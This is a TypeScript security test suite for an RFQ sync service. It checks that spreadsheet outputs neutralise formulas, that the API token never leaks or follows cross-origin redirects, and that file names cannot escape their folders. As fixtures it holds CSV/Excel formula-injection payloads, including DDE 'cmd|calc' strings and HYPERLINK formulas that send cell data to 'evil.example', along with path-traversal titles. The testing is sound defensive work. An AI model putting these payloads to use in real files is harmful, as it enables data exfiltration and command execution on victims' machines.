/**
 * Security, measured on everything the service writes: the whole loop runs (files with formula-looking text and
 * hostile titles, suppliers whose names and notes are formulas, a refused file, lost answers), then every output
 * is scanned: logs, reports, comparison workbooks and award CSVs (unzipped), every value in Redis (failed jobs keep
 * their errors there), and `rfq-sync status` / `failed list`. Also: the token never goes to another origin
 * (pagination links and redirects pointing elsewhere), the operations endpoint refuses non-loopback clients
 * without its token, and file names never take a path out of the configured folders.
 */
import { execFile } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import { readdir, readFile, rename, writeFile } from 'node:fs/promises';
import { networkInterfaces } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { Redis } from 'ioredis';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { PACKAGE_ROOT } from '../../src/settings/config.ts';
import { silentLogger } from '../../src/core/logger.ts';
import { createMetrics } from '../../app/http/metrics.ts';
import { startOpsServer } from '../../app/http/http-server.ts';
import type { EmbeddedRedis } from '../../src/redis/embedded-redis.ts';
import { startSandbox, type Sandbox } from '../../src/sandbox/server.ts';
import { createSourcingClient } from '../../src/sourcing/client/http-client.ts';
import { recordFigure } from './figures.ts';
import { csvOf, GENERIC_TEMPLATE, type TemplateLine } from './hostile-files.ts';
import { listTree, type DataDir } from '../helpers/files.ts';
import { usePipeline } from '../helpers/pipeline.ts';
import { openQueues, unfinished } from '../helpers/job-counts.ts';
import { serviceEnv } from '../helpers/worker-env.ts';
import { waitFor } from '../helpers/wait.ts';
import type { WorkerChild } from '../helpers/worker-child.ts';
import { callsInFlight } from '../helpers/monitor.ts';
import { csvFields, filesContaining, isFormulaLike, workbookText } from './outputs.ts';

const run = promisify(execFile);
const SECTION = 'security';
const TOKEN = `hardening-${randomBytes(12).toString('hex')}`;
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  '-2+3',
  '\t=1+1',
  '\r=2+2',
  '=cmd|calc!A0',
];

/** A loopback HTTP server standing for another host: it records every request it gets. */
async function recorder(): Promise<{
  server: Server;
  url: string;
  hits: Array<{ url: string; headers: IncomingHttpHeaders }>;
}> {
  const hits: Array<{ url: string; headers: IncomingHttpHeaders }> = [];
  const server = createServer((req, res) => {
    hits.push({ url: req.url ?? '', headers: req.headers });
    res.writeHead(200, { 'content-type': 'application/json' }).end('{"rfqs":[],"links":{},"meta":{"total":0}}');
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  const port = (server.address() as { port: number }).port;
  return { server, url: `http://127.0.0.1:${port}`, hits };
}

describe('security', () => {
  const pipeline = usePipeline({ scope: 'file', appendonly: false, sandbox: false, tag: 'security' });
  let redis: EmbeddedRedis;
  let sandbox: Sandbox;
  let foreign: Awaited<ReturnType<typeof recorder>>;
  let data: DataDir;
  let staging: string;
  let service: WorkerChild;
  let env: Record<string, string>;
  let prefix: string;

  beforeAll(async () => {
    foreign = await recorder();
    // Pagination links name another origin: the client must ask the configured one, with the token, and only it.
    sandbox = await startSandbox({
      seed: 3,
      accounts: { [TOKEN]: 'Hardening Buyer' },
      pageSize: 3,
      linksOrigin: foreign.url,
      prefix: '/esourcing',
    });
    ({ redis, data, prefix, staging } = pipeline);
    env = serviceEnv({
      redisUrl: redis.url,
      baseUrl: sandbox.url,
      token: TOKEN,
      prefix,
      data,
      extra: { LOG_LEVEL: 'debug' },
    });
    service = await pipeline.spawnWorker(env);
  });
  afterAll(async () => {
    await service?.kill('SIGTERM');
    await sandbox?.stop();
    await new Promise((r) => foreign?.server.close(r));
  });

  it('the whole loop with hostile text: the token is in no output, formulas are neutralised everywhere, paths stay inside', async () => {
    // Requisitions whose product names, specifications, keys and titles are formulas or path traversals.
    const lines: TemplateLine[] = FORMULAS.map((f, i) => ({
      pr: 'SEC1000',
      item: String((i + 1) * 10),
      product: f,
      spec: f,
      qty: '2',
      price: '100',
    }));
    const template = {
      ...GENERIC_TEMPLATE,
      cells: (l: TemplateLine) => {
        const c = GENERIC_TEMPLATE.cells(l);
        if (l.pr === 'SEC2000') c[7] = '../../../../etc/evil-title';
        if (l.pr === 'SEC3000') c[7] = '=HYPERLINK("http://evil.example","title")';
        if (l.pr === 'SEC4000') c[7] = `C:\\Windows\\..\\evil ${TOKEN.slice(0, 6)}`;
        return c;
      },
    };
    lines.push({ pr: 'SEC2000', item: '10', product: 'traversal title', qty: '1' });
    lines.push({ pr: 'SEC3000', item: '10', product: 'formula title', qty: '1' });
    lines.push({ pr: 'SEC4000', item: '10', product: 'windows title', qty: '1' });
    lines.push({ pr: '=1+1', item: '10', product: 'formula key', qty: '1' });
    await writeFile(join(staging, 'sec.csv'), csvOf(template, lines));
    await writeFile(join(staging, 'refused.xlsx'), 'not a workbook');
    await rename(join(staging, 'sec.csv'), join(data.inbox, '=HYPERLINK("x").csv'));
    await rename(join(staging, 'refused.xlsx'), join(data.inbox, 'refused.xlsx'));
    // Some answers lost, some calls 5xx: errors and retries get logged and kept.
    sandbox.setFaults({ errorRate: 0.2, commitThenFail: { rate: 0.3, mode: '502' } });

    await waitFor('5 RFQs created', () => sandbox.control.listAll().length >= 5, 60_000);
    // every create job has run (none waiting, delayed or active) and the sandbox answered every call: no more can come
    const createQueue = openQueues(redis.url, prefix);
    try {
      await waitFor(
        'the create queue drained',
        async () => unfinished(await createQueue.counts(), ['createRfq']) === 0 && callsInFlight(sandbox) === 0,
        60_000,
      );
    } finally {
      await createQueue.close();
    }
    sandbox.setFaults({});
    const rfqs = sandbox.control.listAll();
    expect(rfqs).toHaveLength(5);
    // Suppliers answer with formulas in their names and notes; one is disqualified, one wins.
    for (const r of rfqs) {
      const prices = Object.fromEntries(r.lines.map((l, i) => [l.line_id, String(10 + i)]));
      const evil = sandbox.control.submitQuotation(r._id, {
        sup_name: '=HYPERLINK("http://evil.example/?leak="&B2,"Best price")',
        notes: '@SUM(A1:A9)',
        prices,
      });
      const plain = sandbox.control.submitQuotation(r._id, {
        sup_name: '-Minus Supplies',
        notes: '+49 30 1234',
        prices: Object.fromEntries(Object.keys(prices).map((k) => [k, '9.50'])),
      });
      sandbox.control.submitQuotation(r._id, { sup_name: '\tTab Trading', notes: '=1+1', prices });
      sandbox.control.advance(r._id, 'closed');
      sandbox.control.decide(r._id, String(evil.quotation_key), true);
      sandbox.control.decide(r._id, String(plain.quotation_key), false);
    }
    await waitFor(
      'a comparison workbook per RFQ',
      async () =>
        (await readdir(join(data.outbox, 'comparisons')).catch(() => [])).filter((n) => n.endsWith('.xlsx')).length >=
        5,
      90_000,
      500,
    );
    for (const r of rfqs) {
      const evilKey = String(sandbox.control.getRfq(r._id)!.quotations?.[0]?.quotation_key ?? '');
      if (evilKey) sandbox.control.pickWinner(r._id, evilKey);
      sandbox.control.advance(r._id, 'completed');
    }
    await waitFor(
      'an award CSV per RFQ',
      async () =>
        (await readdir(join(data.outbox, 'awards')).catch(() => [])).filter((n) => n.endsWith('.csv')).length >= 5,
      90_000,
      500,
    );
    const queues = openQueues(redis.url, prefix);
    try {
      await waitFor(
        'queues idle',
        async () => unfinished(await queues.counts(), ['ingest', 'createRfq', 'quotations', 'comparison']) === 0,
        60_000,
      );
    } finally {
      await queues.close();
    }

    // 1. The token: nowhere in logs, outputs, Redis, or the CLI's status and failed list.
    const leaks: string[] = [];
    if (service.output().includes(TOKEN)) leaks.push('worker logs');
    for (const f of await filesContaining(data.outbox, TOKEN)) leaks.push(`outbox/${f}`);
    const r = new Redis(redis.url);
    try {
      let cursor = '0';
      do {
        const [next, keys] = await r.scan(cursor, 'COUNT', 1000);
        cursor = next;
        for (const k of keys) {
          const type = await r.type(k);
          const v =
            type === 'string'
              ? await r.get(k)
              : type === 'hash'
                ? JSON.stringify(await r.hgetall(k))
                : type === 'list'
                  ? JSON.stringify(await r.lrange(k, 0, -1))
                  : type === 'zset'
                    ? JSON.stringify(await r.zrange(k, 0, -1))
                    : type === 'set'
                      ? JSON.stringify(await r.smembers(k))
                      : type === 'stream'
                        ? JSON.stringify(await r.xrange(k, '-', '+'))
                        : '';
          if (v?.includes(TOKEN)) leaks.push(`redis ${k}`);
        }
      } while (cursor !== '0');
    } finally {
      r.disconnect();
    }
    const cli = async (...args: string[]) => {
      const res = await run(process.execPath, [join(PACKAGE_ROOT, 'bin/rfq-sync.ts'), ...args], {
        env: { PATH: process.env.PATH ?? '', ...env },
        cwd: PACKAGE_ROOT,
        timeout: 60_000,
      }).catch((e: { stdout?: string; stderr?: string; code?: number }) => ({
        stdout: e.stdout ?? '',
        stderr: e.stderr ?? '',
        code: e.code,
      }));
      return `${res.stdout}${res.stderr}`;
    };
    const statusJson = await cli('status', '--json');
    const statusOut = `${await cli('status')}${statusJson}${await cli('failed', 'list')}`;
    expect(() => JSON.parse(statusJson), `status --json printed: ${statusJson.slice(0, 500)}`).not.toThrow();
    if (statusOut.includes(TOKEN)) leaks.push('rfq-sync status / failed list');
    recordFigure({
      section: SECTION,
      name: 'token occurrences in logs, outbox, Redis, status',
      value: leaks.length,
      target: '0',
      ok: leaks.length === 0,
    });
    expect(leaks).toEqual([]);

    // 2. Cross-origin: the foreign host named by every pagination link got nothing.
    recordFigure({
      section: SECTION,
      name: 'requests to the foreign origin of pagination links',
      value: foreign.hits.length,
      target: '0',
      ok: foreign.hits.length === 0,
    });
    expect(foreign.hits).toEqual([]);

    // 3. Formulas: no cell of any workbook, no field of any CSV starts with = + - @ tab CR LF; no formula or link carries input.
    const outputs = await listTree(data.outbox);
    const bad: string[] = [];
    const neutralised = new Set<string>(); // outputs where hostile text was seen, neutralised
    let cells = 0;
    for (const f of outputs) {
      const p = join(data.outbox, f);
      if (f.endsWith('.xlsx')) {
        const wb = await workbookText(p);
        cells += wb.strings.length;
        for (const s of wb.strings) if (isFormulaLike(s)) bad.push(`${f}: cell ${JSON.stringify(s.slice(0, 60))}`);
        if (wb.strings.some((s) => s.startsWith("'") && isFormulaLike(s.slice(1)))) neutralised.add(f.split('/')[0]!);
        for (const fm of wb.formulas)
          if (/HYPERLINK|cmd|evil|SUM\(A1/i.test(fm)) bad.push(`${f}: formula ${JSON.stringify(fm.slice(0, 60))}`);
        for (const h of wb.hyperlinks) if (/evil/.test(h)) bad.push(`${f}: hyperlink ${h}`);
      } else if (f.endsWith('.csv')) {
        const fields = csvFields(await readFile(p, 'utf8'));
        cells += fields.length;
        for (const s of fields) if (isFormulaLike(s)) bad.push(`${f}: field ${JSON.stringify(s.slice(0, 60))}`);
        if (fields.some((s) => s.startsWith("'") && isFormulaLike(s.slice(1)))) neutralised.add(f.split('/')[0]!);
      }
    }
    recordFigure({
      section: SECTION,
      name: 'output cells checked / formula-like',
      value: `${cells} / ${bad.length}`,
      target: 'formula-like 0',
      ok: bad.length === 0,
    });
    expect(outputs.filter((f) => f.startsWith('comparisons/')).length).toBeGreaterThanOrEqual(5);
    expect(outputs.filter((f) => f.startsWith('awards/')).length).toBeGreaterThanOrEqual(5);
    expect(bad).toEqual([]);
    // The hostile text did reach each kind of output (neutralised), so the check above saw it.
    const sample = outputs.find((f) => f.startsWith('comparisons/'));
    const sampleText = sample
      ? (await workbookText(join(data.outbox, sample))).strings.filter((x) =>
          /HYPERLINK|Minus|Tab Trad|SUM|cmd|=1\+1/.test(x),
        )
      : [];
    // outbox/overview.xlsx holds the hostile requisition keys and source file names of every tracked RFQ.
    expect([...neutralised].sort(), `hostile text in ${sample}: ${JSON.stringify(sampleText)}`).toEqual([
      'awards',
      'comparisons',
      'overview.xlsx',
      'reports',
    ]);

    // 4. Paths: every output directly in its folder (the overview directly in the outbox), nothing written outside the data folder.
    const nested = outputs.filter((f) => f.split('/').length !== 2 && !isOverview(f));
    const outside = (await listTree(data.jail)).filter(
      // besides the folders, only the worker's state-epoch marker (src/redis/state-epoch.ts), the data folder's identity (src/intake/intake-folder.ts) and the audit log's day files (src/audit/writer.ts) and its index (src/audit/audit-index.ts: SQLite, with its WAL and shared-memory files), which the `worker` command writes
      (f) =>
        !/^data\/(inbox|processing|archive|failed|outbox)\/|^data\/\.rfq-sync\/(epoch-hardening|folder)\.json$|^data\/audit\/\d{4}-\d{2}-\d{2}\.[\w.-]+\.jsonl$|^data\/audit\/index\.[\w.-]+\.sqlite(-wal|-shm)?$/.test(
          f,
        ),
    );
    recordFigure({
      section: SECTION,
      name: 'files written outside their folder (hostile names, titles)',
      value: nested.length + outside.length,
      target: '0',
      ok: nested.length + outside.length === 0,
    });
    expect(nested).toEqual([]);
    expect(outside).toEqual([]);
  });

  it('the token never follows a redirect to another origin', async () => {
    const other = await recorder();
    const redirector = createServer((req, res) =>
      res.writeHead(307, { location: `${other.url}${req.url ?? '/'}` }).end(),
    );
    await new Promise<void>((r) => redirector.listen(0, '127.0.0.1', r));
    const base = `http://127.0.0.1:${(redirector.address() as { port: number }).port}/esourcing`;
    const client = createSourcingClient({
      baseUrl: base,
      getToken: () => TOKEN,
      getRetries: 0,
      headersTimeoutMs: 2_000,
      bodyTimeoutMs: 2_000,
    });
    try {
      const outcomes: string[] = [];
      for (const call of [
        async () => {
          for await (const x of client.listRfqs('open')) void x;
        },
        () => client.listQuotations(1),
        () =>
          client.createRfq({
            title: 't',
            due_date: String(Date.now() + 86_400_000),
            rfq_type: 'Public',
            lines: [{ product_name: 'p', qty: 1, external_id: 'e' }],
          }),
      ]) {
        outcomes.push(
          await call().then(
            () => 'ok',
            (e: Error) => e.message,
          ),
        );
      }
      expect(
        outcomes.every((o) => o !== 'ok'),
        'a redirect is not a success',
      ).toBe(true);
      for (const o of outcomes) expect(o).not.toContain(TOKEN);
      recordFigure({
        section: SECTION,
        name: 'requests that followed a redirect to another origin',
        value: other.hits.length,
        target: '0',
        ok: other.hits.length === 0,
      });
      expect(other.hits).toEqual([]);
    } finally {
      await client.close();
      await new Promise((r) => redirector.close(r));
      await new Promise((r) => other.server.close(r));
    }
  });

  it('the operations endpoint refuses non-loopback clients without its token', async () => {
    const ip = Object.values(networkInterfaces())
      .flat()
      .find((a) => a && a.family === 'IPv4' && !a.internal)?.address;
    const opsToken = `ops-${randomBytes(12).toString('hex')}`;
    const ops = await startOpsServer({
      host: '0.0.0.0',
      port: 0,
      token: opsToken,
      logger: silentLogger,
      metrics: createMetrics({ defaultMetrics: false }),
    });
    try {
      const get = (host: string, path: string, token?: string) =>
        fetch(`http://${host}:${ops.port}${path}`, { headers: token ? { authorization: `Bearer ${token}` } : {} }).then(
          (r) => r.status,
        );
      if (!ip) {
        recordFigure({
          section: SECTION,
          name: 'ops endpoint: non-loopback requests without token refused',
          value: 'no non-loopback interface here',
          ok: true,
        });
        return;
      }
      // /healthz (process up, nothing else) stays open for liveness probes; everything else needs the token.
      const paths = ['/metrics', '/readyz', '/queues', '/queues/api/queues'];
      const without = await Promise.all(paths.map((p) => get(ip, p)));
      const wrong = await Promise.all(paths.map((p) => get(ip, p, 'x'.repeat(opsToken.length))));
      const withToken = await get(ip, '/metrics', opsToken);
      const refused = [...without, ...wrong].filter((s) => s === 401 || s === 403).length;
      recordFigure({
        section: SECTION,
        name: 'ops endpoint: non-loopback requests without (or with a wrong) token refused',
        value: `${refused} / ${without.length + wrong.length}`,
        target: 'all',
        ok: refused === without.length + wrong.length,
      });
      expect(
        without.filter((s) => s !== 401 && s !== 403),
        `non-loopback without token: ${without}`,
      ).toEqual([]);
      expect(wrong.filter((s) => s !== 401 && s !== 403)).toEqual([]);
      expect(withToken).toBe(200);
    } finally {
      await ops.close();
    }
  });
});

/** outbox/overview.xlsx, or its temporary file while a rewrite runs. */
function isOverview(f: string): boolean {
  return /^\.?overview\.xlsx(\.[0-9a-f]{8}\.tmp)?$/.test(f);
}
